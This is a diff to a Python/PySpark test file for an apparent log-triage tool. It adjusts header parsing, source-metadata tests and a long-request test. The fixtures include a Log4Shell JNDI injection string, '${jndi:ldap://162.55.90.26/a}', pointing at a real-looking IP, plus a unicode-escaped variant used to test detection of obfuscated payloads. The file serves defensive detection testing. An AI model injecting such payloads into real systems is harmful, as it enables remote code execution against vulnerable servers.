@@ -7,7 +7,6 @@ import random
 from pyspark.sql import functions as F
 
 from logtriage.operators import ingest as I
-from logtriage.plans.templates import BACKSLASH
 
 MARKERS = {"@timestamp", "@version", "_id", "_index", "_score", "_type"}
 
@@ -20,7 +19,7 @@ def header(text):
         cells = next(csv.reader([text]))
     except Exception:
         cells = text.split(",")
-    names = [c.strip().strip("\"'").lower() for c in cells[:12]]
+    names = [c.strip().strip("\"'").lower() for c in cells]
     return names[:2] == ["@timestamp", "@version"] or (names[:1] == ["@timestamp"] and len(MARKERS & set(names)) >= 3)
 
 
@@ -44,8 +43,8 @@ TOKEN = "${jndi:ldap://162.55.90.26/a}"
 
 
 def test_observations(spark):
-    hidden = TOKEN.replace("$", BACKSLASH + "u0024")
-    deep = json.dumps({"other": "${jndi:ldap://skip/a}"}).replace("$", BACKSLASH + "u0024")
+    hidden = TOKEN.replace("$", "\\u0024")
+    deep = json.dumps({"other": "${jndi:ldap://skip/a}"}).replace("$", "\\u0024")
     got = observe(
         spark,
         '"@timestamp","@version","_id","_index","_score","_type","headers.user-agent"',
@@ -104,8 +103,14 @@ def test_fallback_and_meta(spark):
     rows = lambda *t: spark.createDataFrame([(x,) for x in t], "raw_log string")
     full = I.with_fallback(rows("a", "b"), rows("f"), "one")
     empty = I.with_fallback(rows("a").filter("false"), rows("f"), "two")
-    got = {(r.source, r.rows, r.used_fallback) for r in I.source_meta(full.unionByName(empty)).collect()}
-    assert got == {("one", 2, False), ("two_fallback", 1, True)}
+    found = I.source_meta(full.unionByName(empty), ["one", "two", "three"])
+    got = {(r.source, r.rows, r.used_fallback) for r in found.collect()}
+    assert got == {("one", 2, False), ("two", 1, True), ("three", 0, False)}
+
+
+def test_long_requests_stay_whole(spark):
+    text = "GET /?q=" + TOKEN + "&pad=" + "x" * 2000 + " HTTP/1.1"
+    assert I.extract_observation(spark.createDataFrame([(text,)], "raw_log string")).first().observation == text
 
 
 def test_indicators(spark):
